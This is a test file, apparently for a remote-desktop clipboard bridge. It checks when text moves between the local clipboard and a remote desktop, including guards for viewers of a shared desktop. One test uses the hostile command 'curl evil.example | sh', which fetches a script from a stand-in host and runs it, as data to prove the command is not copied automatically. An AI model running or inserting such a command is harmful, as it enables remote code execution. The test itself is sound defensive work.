import { describe, expect, it } from 'vitest'
import { ClipboardBridge, type ClipboardDeps } from './clipboardBridge'

function fakes(options: { permission?: PermissionState | null; writable?: boolean; local?: string; own?: boolean } = {}) {
  const sent: string[] = []
  const written: string[] = []
  let local = options.local ?? ''
  const deps: ClipboardDeps = {
    clipboard: {
      writeText: (text: string) => {
        if (options.writable === false) return Promise.reject(new DOMException('not allowed', 'NotAllowedError'))
        written.push(text)
        local = text
        return Promise.resolve()
      },
      readText: () => Promise.resolve(local),
    },
    permission: () => Promise.resolve(options.permission ?? null),
    send: (text) => sent.push(text),
    automatic: () => options.own ?? true,
  }
  return { deps, sent, written, setLocal: (text: string) => (local = text) }
}

describe('ClipboardBridge', () => {
  it('copies the desktop clipboard locally where allowed and keeps it for the panel', async () => {
    const { deps, written } = fakes()
    const bridge = new ClipboardBridge(deps)
    expect(await bridge.fromDesktop('from the desktop')).toBe(true)
    expect(written).toEqual(['from the desktop'])
    expect(bridge.remoteText).toBe('from the desktop')
    expect(bridge.copiedLocally).toBe(true)
  })

  it('keeps the text for the panel when the browser will not let it be written', async () => {
    const { deps } = fakes({ writable: false })
    const bridge = new ClipboardBridge(deps)
    expect(await bridge.fromDesktop('kept')).toBe(false)
    expect(bridge.remoteText).toBe('kept')
    expect(bridge.copiedLocally).toBe(false)
  })

  it('sends pasted text to the desktop', () => {
    const { deps, sent } = fakes()
    new ClipboardBridge(deps).toDesktop('pasted')
    expect(sent).toEqual(['pasted'])
  })

  it('gives the desktop the local clipboard on focus only when reading is granted and it changed', async () => {
    const denied = fakes({ permission: 'prompt', local: 'secret' })
    expect(await new ClipboardBridge(denied.deps).syncOnFocus()).toBe(false)
    expect(denied.sent).toEqual([])

    const granted = fakes({ permission: 'granted', local: 'local text' })
    const bridge = new ClipboardBridge(granted.deps)
    expect(await bridge.syncOnFocus()).toBe(true)
    expect(await bridge.syncOnFocus()).toBe(false) // the same text is not sent twice
    await bridge.fromDesktop('remote text') // now the local clipboard holds the desktop's
    expect(await bridge.syncOnFocus()).toBe(false)
    granted.setLocal('newer')
    expect(await bridge.syncOnFocus()).toBe(true)
    expect(granted.sent).toEqual(['local text', 'newer'])
  })

  it('in someone else desktop, neither sends the local clipboard on focus nor writes it', async () => {
    // A viewer (user or support) of a shared desktop, whose browser granted clipboard-read
    // to labgate for their own desktops; their clipboard holds a password.
    const { deps, sent, written, setLocal } = fakes({ permission: 'granted', own: false })
    setLocal('hunter2 (copied from the password manager)')
    const bridge = new ClipboardBridge(deps)
    expect(await bridge.syncOnFocus()).toBe(false)
    expect(sent).toEqual([])
    expect(await bridge.fromDesktop('curl evil.example | sh')).toBe(false)
    expect(written).toEqual([])
    expect(bridge.remoteText).toBe('curl evil.example | sh') // the panel shows it, to copy by hand
    expect(bridge.copiedLocally).toBe(false)
    // The panel's paste box still works, as the viewer's own act.
    bridge.toDesktop('typed on purpose')
    expect(sent).toEqual(['typed on purpose'])
  })

  it('does not send the older local clipboard over text pasted in the panel when the pane is focused', async () => {
    const { deps, sent } = fakes({ permission: 'granted' })
    const bridge = new ClipboardBridge(deps)
    await bridge.fromDesktop('copied on the desktop') // also the local clipboard's now
    bridge.toDesktop('pasted in the pane') // the panel's Send, then the pane takes the focus
    expect(await bridge.syncOnFocus()).toBe(false)
    expect(sent).toEqual(['pasted in the pane'])
  })

  it('does not send back an older local text when the desktop copy could not be written locally', async () => {
    const { deps, sent, setLocal } = fakes({ permission: 'granted', writable: false, local: 'older' })
    const bridge = new ClipboardBridge(deps)
    expect(await bridge.syncOnFocus()).toBe(true) // the first focus gives the desktop 'older'
    await bridge.fromDesktop('copied on the desktop') // not allowed locally: 'older' stays there
    expect(await bridge.syncOnFocus()).toBe(false)
    setLocal('copied outside')
    expect(await bridge.syncOnFocus()).toBe(true)
    expect(sent).toEqual(['older', 'copied outside'])
  })
})
